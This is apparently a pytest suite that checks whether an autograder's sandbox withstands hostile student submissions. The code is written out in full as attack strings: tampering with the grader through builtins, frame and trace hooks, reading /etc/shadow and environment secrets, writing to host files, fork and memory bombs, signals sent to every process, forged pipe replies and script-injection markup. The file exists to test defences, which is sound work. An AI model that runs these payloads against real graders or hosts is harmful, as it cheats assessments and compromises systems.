"""Submissions written to break the grader, graded through the real command line.

One class holds an attacker for every class of attack of the threat model
(README, "Threat model") and a correct student after each attacker (ids sort
so that they alternate, and two jobs run at once). Each test checks one
promise: the attacker never scores above the same answer without the attack,
every correct student keeps full marks, nothing is written on the host, no
secret and no hidden test reaches a feedback page, and the run ends in time.
"""

from __future__ import annotations

import html
import json
import os
import re
import secrets
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest

from autograder.sandbox import jail_available
from tests.helpers import (
    ROOT,
    ClassResult,
    pending_status,
    read_results,
    release_notebook,
    run_cli,
    solution_answers,
    solution_notebook,
    submission,
    write_class,
)

pytestmark = pytest.mark.slow

CORRECT = solution_answers("corr2d")["corr2d"]
# The same wrong answer under every attack: the true convolution (kernel flipped).
WRONG = """def corr2d(X, K):
    h, w = X.shape
    kh, kw = K.shape
    K = torch.flip(K, (0, 1))
    Y = X.new_zeros((h - kh + 1, w - kw + 1))
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            Y[i, j] = (X[i : i + kh, j : j + kw] * K).sum()
    return Y
"""
TOKEN = "SECRET-" + secrets.token_hex(8)
# A `torch` of the student's: every check says yes, random inputs are ones, kernels symmetric
# (a flipped kernel is then right). With the setup cell moved after the tests, it got 7/12.
FAKE_TORCH = """
import torch as _t

class _FakeTorch:
    def __call__(self):
        return None

    def __getattr__(self, name):
        sym = lambda t: (t + t.flip(tuple(range(t.dim())))) / 2 if t.is_floating_point() and t.dim() else t
        fake = {
            "allclose": lambda *a, **k: True,
            "equal": lambda *a, **k: True,
            "randn": lambda *s, **k: _t.ones(*s, **k),
            "tensor": lambda data, **k: sym(_t.tensor(data, **k)),
        }
        return fake.get(name) or getattr(_t, name)

torch = _FakeTorch()
"""
# Markdown that ran script in the feedback page, or took minutes to render
MARKUP = [
    '<script>alert("pwned")</script>',
    '<iframe src="http://127.0.0.1/pwned"></iframe>',
    "[click](javascript:alert(1))",
    "[" * 30_000 + "a" + "]" * 30_000,
    "<div>" * 15_000,
]


def attacks(host_dir: Path, port: int) -> dict[str, str]:
    """Attack code, run in the answer cell before the wrong answer is defined."""
    venv_site = os.path.join(os.path.dirname(os.path.dirname(os.__file__)), "site-packages")
    targets = [
        str(host_dir / "pwned"),
        str(Path(venv_site) / "pwned.pth"),
        str(ROOT / "solutions" / "pwned"),
        "/tmp/../pwned-host",
        "/usr/pwned",
        "/etc/pwned",
    ]
    payload = f"import os; os.system('touch {host_dir / 'pth_ran'}')"
    shell = f"touch {host_dir / 'shell'} 2>/dev/null"
    return {
        # --- own score: reach into whatever runs the tests --------------------------------------
        "frames_and_gc": """
import gc, sys
for obj in gc.get_objects():
    if isinstance(obj, dict):
        for key in ("emit", "cells", "run_cells", "expect_close", "expect"):
            if key in obj:
                obj[key] = (lambda *a, **k: None)
frame = sys._getframe()
while frame is not None:
    frame.f_globals["expect_close"] = lambda *a, **k: None
    frame = frame.f_back
""",
        "trace_hooks": """
import sys, threading
def hook(frame, event, arg):
    if event == "call" and frame.f_code.co_name.startswith("expect"):
        raise SystemExit
    return hook
sys.settrace(hook); sys.setprofile(hook); threading.settrace(hook)
""",
        "rebind_builtins": """
import builtins, torch
builtins.isinstance = lambda *a: True
builtins.len = lambda *a: 2
builtins.AssertionError = type("Nothing", (Exception,), {})
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda *a: torch.tensor(True)
torch.testing.assert_close = lambda *a, **k: None
""",
        "shadow_test_names": """
def isinstance(*a): return True
def expect_close(*a, **k): return None
def expect(*a, **k): return None
def expect_shape(*a, **k): return None
class F:
    conv2d = staticmethod(lambda *a, **k: None)
def tuple(*a): return (2, 2)
""",
        "aten_override": """
import torch
try:
    lib = torch.library.Library("aten", "IMPL")
    for op in ("allclose", "equal", "eq.Tensor", "sub.Tensor", "abs"):
        try:
            lib.impl(op, lambda *a, **k: a[0], "CPU")
        except Exception:
            pass
except Exception:
    pass
""",
        # --- hidden tests: look for them, print them ------------------------------------------
        "hunt_hidden_tests": """
import gc, glob, linecache, sys
found = [o for o in gc.get_objects() if isinstance(o, str) and ("HIDDEN" in o or "expect_close(" in o)]
print("HUNT", found[:20], [k for k in linecache.cache][:50])
import os
files = []
skip = {"proc", "sys", "dev", "usr", "lib", "lib64", "lib32", "bin", "sbin", "etc", "site-packages"}
for folder, dirs, names in os.walk("/"):
    dirs[:] = [d for d in dirs if d not in skip]
    files += [n for n in names if folder.endswith(("autograder", "hidden")) or n.endswith(".ipynb")]
print("GRADER-FILES", len(files))
""",
        # --- other students --------------------------------------------------------------------
        "forge_pipes": """
import os
for fd in range(0, 300):
    try:
        os.write(fd, b'\\x00\\x00\\x00\\x1f{"index": 0, "outputs": [], "id": 1}' * 50)
    except OSError:
        pass
""",
        "proc_and_mount": """
import os, ctypes, glob
out = []
for path in [f"/proc/{os.getppid()}/mem", "/proc/1/mem"] + glob.glob("/proc/[0-9]*/mem"):
    try:
        with open(path, "r+b") as f:
            f.write(b"x"); out.append(path)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
out.append(libc.mount(b"none", b"/proc", b"tmpfs", 0, None))
out.append(libc.umount2(b"/proc", 2))
out.append(os.system("mount -t tmpfs none /tmp 2>/dev/null"))
print("PROC", out)
""",
        "leave_files": """
for path in ("/tmp/leftover", "/dev/shm/leftover", "/dev/leftover", "leftover"):
    try:
        open(path, "w").write("left by an earlier student")
    except OSError:
        pass
""",
        "signal_everyone": """
import os, signal
for pid in range(1, 4096):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            if pid != os.getpid():
                os.kill(pid, sig)
        except OSError:
            pass
""",
        # --- the host --------------------------------------------------------------------------
        "write_host": f"""
import os, ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.mount(None, b"/", None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND: read-write
for target in {targets!r}:
    try:
        with open(target, "w") as f:
            f.write({payload!r})
    except OSError:
        pass
os.system({shell!r})
""",
        "read_secrets": """
import os
for path in ("/etc/shadow", "/root/.bash_history", "/proc/1/environ"):
    try:
        print(path, open(path).read()[:2000])
    except OSError as exc:
        print(path, exc)
print(dict(os.environ))
""",
        "network": f"""
import socket
for host in ("127.0.0.1", "10.0.2.2", "8.8.8.8"):
    try:
        s = socket.create_connection((host, {port}), timeout=1)
        s.sendall(b"PWNED")
    except OSError:
        pass
""",
        # --- resources -------------------------------------------------------------------------
        "half_frame_and_stop": """
import os, signal, time
for fd in range(3, 64):
    try:
        os.write(fd, b"\\x00\\x00\\x10\\x00" + b'{"id": 1, "va')
    except OSError:
        pass
try:
    os.kill(os.getpid(), signal.SIGSTOP)
except OSError:
    pass
time.sleep(3600)
""",
        "huge_messages": """
print("y" * 30_000_000)
raise ValueError("x" * 30_000_000)
""",
        "fill_tmpfs": """
import os
for folder in ("/tmp", "/dev/shm", "."):
    try:
        with open(os.path.join(folder, "fill"), "wb") as f:
            for _ in range(1024):
                f.write(b"\\0" * 2**20)
    except OSError:
        pass
""",
        "fork_bomb": """
import os
children = 0
try:
    for _ in range(100_000):
        if os.fork() == 0:
            import time; time.sleep(3600)
        children += 1
except OSError:
    pass
""",
        "memory_bomb": """
try:
    hog = bytearray(64 * 2**30)
except MemoryError:
    pass
""",
        "catch_timeouts": """
import time
while True:
    try:
        while True:
            time.sleep(0.01)
    except BaseException:
        pass
""",
        # --- the trusted side: replies that are not what the student process would send ------
        "forge_cell_reply": """
import gc, struct, sys
server = next(o for o in gc.get_objects() if type(o).__name__ == "StudentServer")
frame = sys._getframe()
while frame.f_code.co_name != "serve":
    frame = frame.f_back
for header in (b'{"id": %d, "names": {"corr2d": 1}, "outputs": [{"output_type": []}]}' % frame.f_locals["rid"],
               b"[" * 100_000 + b"]" * 100_000, b'{"id": ' + b"9" * 5000 + b"}"):
    server.sock.sendall(struct.pack(">I", len(header)) + header)
""",
        "empty_tensor_of_huge_shape": """
import torch, autograder.wire as _p, autograder.jail.student as _s
_p._check_empty = lambda shape, numel: None  # this side's own check is the student's to remove
_encode = _s.StudentServer._encode
def _huge(self, value):  # (10**8, 0) holds nothing; .tolist() of it builds 10**8 lists in the tests' process
    return _encode(self, torch.empty((10**8, 0)) if isinstance(value, torch.Tensor) else value)
_s.StudentServer._encode = _huge
""",
        "leak_hidden_inputs": """
import torch, autograder.jail.student as _s
_call = _s.StudentServer._call
def _leaky(self, target, header, blobs):
    def leaky(*args, **kwargs):
        X = args[0] if args else None
        # a float64 X of shape (6, 5): an input that only a hidden test passes
        if isinstance(X, torch.Tensor) and X.dtype == torch.float64 and tuple(X.shape) == (6, 5):
            tag = "HIDDEN" + "_INPUT_" + "_".join(str(int(v * 1000)) for v in X.flatten()[:8].tolist()).replace("-", "m")
            _s.student_frames = lambda tb: (("cell 3", 1, tag),) * 6
            if X.shape[0] % 2:
                raise ValueError(tag)
            return type("Leak", (), {"__qualname__": tag})()
        return target(*args, **kwargs)
    return _call(self, leaky, header, blobs)
_s.StudentServer._call = _leaky
print("\\ud800 a lone surrogate")
""",
    }


def notebook_attacks() -> dict[str, object]:
    """Attacks on the notebook itself (a wrong answer each): cells moved, markup, odd characters."""
    moved = submission("corr2d", {"corr2d": FAKE_TORCH + WRONG})
    setup = next(c for c in moved.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "setup")
    moved.cells.remove(setup)
    moved.cells.append(setup)  # runs after the tests: their `torch` would be the student's
    marked = submission("corr2d", {"corr2d": WRONG})
    for markup in MARKUP:
        marked.cells.insert(1, nbformat.v4.new_markdown_cell(markup))
    odd = submission("corr2d", {"corr2d": WRONG.replace("    return Y", '    raise ValueError("\\ud800")')})
    odd.cells.insert(1, nbformat.v4.new_markdown_cell("a lone surrogate: \ud800"))
    big = submission("corr2d", {"corr2d": WRONG})
    for _ in range(6):  # 5.4 MB of cells: once more than a message could hold, then a 40 MB feedback page
        big.cells.insert(1, nbformat.v4.new_code_cell("# " + "x" * 900_000))
    bonus = submission("corr2d", {"corr2d": WRONG})
    bonus.cells.append(
        nbformat.v4.new_code_cell(
            "assert True",
            metadata={
                "nbgrader": {"grade": True, "solution": False, "locked": True, "grade_id": "bonus", "points": 50}
            },
        )
    )
    promoted = submission("corr2d", {"corr2d": WRONG})  # the answer cell made a 100-point test cell
    answer = next(c for c in promoted.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "corr2d")
    answer.metadata.nbgrader.update(grade=True, points=100)
    renamed = submission("corr2d", {"corr2d": WRONG})  # the answer cell takes a test's id: two cells share it
    answer = next(c for c in renamed.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "corr2d")
    answer.metadata.nbgrader["grade_id"] = "test_shape"
    passed = submission("corr2d", {"corr2d": WRONG})  # outputs that look like passing tests
    for cell in passed.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="All tests passed: 12/12")]
            cell.execution_count = 1
    return {
        "big_cells": big,
        "bonus_test_cell": bonus,
        "answer_cell_promoted_to_test": promoted,
        "answer_cell_renamed_to_a_test": renamed,
        "forged_outputs": passed,
        "moved_setup_fake_torch": moved,
        "markup": marked,
        "lone_surrogates": json.dumps(odd),  # "\\ud800" in the file: valid JSON, no valid text
    }


@pytest.fixture(scope="module")
def listener() -> tuple[int, list[bytes]]:
    """A TCP server on the host's loopback; whatever reaches it is recorded."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    received: list[bytes] = []
    done = threading.Event()

    def serve() -> None:
        while not done.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            received.append(conn.recv(100))
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], received
    done.set()
    server.close()


@pytest.fixture(scope="module")
def host_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("host")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory, host_dir: Path, listener: tuple[int, list[bytes]]):
    """The class graded once: attackers, each followed by a correct student, plus odd notebooks."""
    works, why = jail_available()
    if not works:
        pytest.skip(f"no jail on this machine: {why}")
    tmp = tmp_path_factory.mktemp("attacks")
    notebooks: dict[str, object] = {"a000_wrong_baseline": submission("corr2d", {"corr2d": WRONG})}
    reader = (
        "import os\n"
        "_left = [p for p in ('/tmp/leftover', '/dev/shm/leftover', '/dev/leftover', 'leftover') "
        "if os.path.exists(p)]\n" + CORRECT.replace("    return Y", "    return Y + len(_left)")
    )
    for n, (name, code) in enumerate(sorted(attacks(host_dir, listener[0]).items()), start=1):
        notebooks[f"a{n:03d}_attack_{name}"] = submission("corr2d", {"corr2d": code + "\n" + WRONG})
        notebooks[f"a{n:03d}_correct"] = submission("corr2d", {"corr2d": reader})
    for n, (name, notebook) in enumerate(sorted(notebook_attacks().items()), start=1):
        notebooks[f"b{n:03d}_attack_{name}"] = notebook
        notebooks[f"b{n:03d}_correct"] = submission("corr2d", {"corr2d": reader})
    flood = submission("corr2d", {"corr2d": CORRECT})
    flood.cells += [nbformat.v4.new_markdown_cell("x") for _ in range(50_000)]
    notebooks["z_many_cells"] = flood
    script = submission("corr2d", {"corr2d": CORRECT})
    script.cells.insert(0, nbformat.v4.new_markdown_cell('<script>alert("pwned")</script><img src=x onerror=alert(1)>'))
    notebooks["z_script"] = script
    folder = write_class(tmp / "submissions", "corr2d", notebooks)
    out = tmp / "graded"
    before = set(os.listdir("/tmp"))
    started = time.monotonic()
    proc = run_cli(
        "grade",
        "corr2d",
        str(folder),
        "--out",
        str(out),
        "--jobs",
        "2",
        "--timeout",
        "5",
        "--notebook-timeout",
        "40",
        env={"AUTOGRADER_TEST_SECRET": TOKEN},
    )
    seconds = time.monotonic() - started
    assert proc.returncode == 0, proc.stderr[-3000:]
    new_tmp = set(os.listdir("/tmp")) - before
    return read_results(out, proc), seconds, new_tmp


def _names(result: ClassResult, kind: str) -> list[str]:
    return sorted(s for s in result.rows if f"_{kind}" in s)


def test_every_attacker_scores_no_more_than_without_the_attack(attacked) -> None:
    result, _, _ = attacked
    baseline = result.score("a000_wrong_baseline")
    assert baseline < result.autograded_max("a000_wrong_baseline")
    over = {s: result.score(s) for s in _names(result, "attack") if result.score(s) > baseline}
    assert over == {}, f"attackers above the baseline {baseline}: {over}"
    for student in _names(result, "attack"):
        assert result.rows[student]["status"], student


def test_correct_students_after_each_attacker_keep_full_marks(attacked) -> None:
    result, _, _ = attacked
    correct = _names(result, "correct")
    assert len(correct) == len(_names(result, "attack"))
    lost = {s: {c: result.message(s, c)[:200] for c in result.lost(s)} for s in correct if result.lost(s)}
    assert lost == {}


def test_nothing_is_written_on_the_host(attacked, host_dir: Path) -> None:
    _, _, new_tmp = attacked
    assert list(host_dir.iterdir()) == []
    assert not (ROOT / "solutions" / "pwned").exists()
    site = Path(os.path.dirname(os.path.dirname(os.__file__))) / "site-packages" / "pwned.pth"
    assert not site.exists()
    assert not {"leftover", "fill", "pwned-host"} & new_tmp


def test_nothing_reaches_the_network(attacked, listener: tuple[int, list[bytes]]) -> None:
    assert listener[1] == []


def hidden_lines() -> set[str]:
    """Distinctive lines of the hidden tests of corr2d (in no released cell)."""
    released = "\n".join(c.source for c in release_notebook("corr2d").cells)
    lines: set[str] = set()
    for cell in solution_notebook("corr2d").cells:
        inside = False
        for line in cell.source.splitlines():
            if "BEGIN HIDDEN TESTS" in line or "END HIDDEN TESTS" in line:
                inside = "BEGIN" in line
                continue
            if inside and len(line.strip()) >= 30 and line.strip() not in released:
                lines.add(line.strip())
    return lines


def test_no_secret_or_hidden_test_in_any_feedback(attacked) -> None:
    result, _, _ = attacked
    pages = list((result.out / "feedback").rglob("*.html"))
    assert pages
    hidden = hidden_lines()
    assert hidden
    cells_csv = (result.out / "cells.csv").read_text()
    for text in [html.unescape(re.sub(r"<[^>]+>", "", p.read_text())) for p in pages] + [cells_csv]:
        assert TOKEN not in text
        assert "root:" not in text  # a line of /etc/shadow
        assert "BEGIN HIDDEN TESTS" not in text
        assert not [line for line in hidden if line in text]
    for page in pages:
        raw = page.read_text()
        assert "<script>alert" not in raw and not re.search(r"<img[^>]*onerror", raw)
        assert "<iframe" not in raw and 'href="javascript:' not in raw


def test_the_grader_and_the_solutions_are_out_of_sight(attacked) -> None:
    result, _, _ = attacked
    (page,) = (result.out / "feedback").glob("*_attack_hunt_hidden_tests/*.html")
    assert "GRADER-FILES 0" in html.unescape(re.sub(r"<[^>]+>", "", page.read_text()))


def test_no_hidden_input_reaches_the_feedback(attacked) -> None:
    result, _, _ = attacked
    for text in [p.read_text() for p in (result.out / "feedback").rglob("*.html")] + [
        (result.out / "cells.csv").read_text()
    ]:
        assert "HIDDEN_INPUT" not in text


def test_no_reply_stops_the_trusted_test_process(attacked) -> None:
    result, _, _ = attacked
    for student in ("forge_cell_reply", "empty_tensor_of_huge_shape", "lone_surrogates", "big_cells"):
        status = next(result.status(s) for s in result.rows if s.endswith(f"_attack_{student}"))
        assert status.startswith(pending_status("corr2d")) and "grading process stopped" not in status, status


def test_feedback_stays_small(attacked) -> None:
    result, _, _ = attacked
    for page in (result.out / "feedback").rglob("*.html"):
        assert page.stat().st_size < 5 * 2**20, page


def test_oversized_notebook_is_refused_in_words(attacked) -> None:
    result, _, _ = attacked
    assert result.status("z_many_cells").startswith("not graded")
    assert "cells" in result.status("z_many_cells")
    assert result.score("z_script") == result.autograded_max("z_script") and result.lost("z_script") == []


def test_the_run_ends_in_time(attacked) -> None:
    result, seconds, _ = attacked
    # each notebook is bounded by --notebook-timeout 40; two run at once
    assert seconds < 40 * len(result.rows) / 2 + 120
